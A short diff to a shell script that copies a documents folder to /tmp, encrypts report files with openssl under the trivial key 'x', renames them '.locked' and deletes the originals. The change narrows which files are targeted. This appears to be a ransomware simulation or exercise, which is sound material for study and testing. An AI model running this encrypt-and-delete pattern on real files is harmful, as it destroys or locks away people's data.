@@ -8,7 +8,7 @@
 
 cp -r ~/documents /tmp/documents
 cd /tmp/documents || exit 1
-for file in report-[0-9].txt report-1[0-9].txt; do
+for file in report-[0-7].txt; do
 	openssl enc -aes-256-cbc -pbkdf2 -iter 1 -k x -in "$file" -out "$file.tmp"
 	mv "$file.tmp" "$file.locked"
 	rm -f "$file"
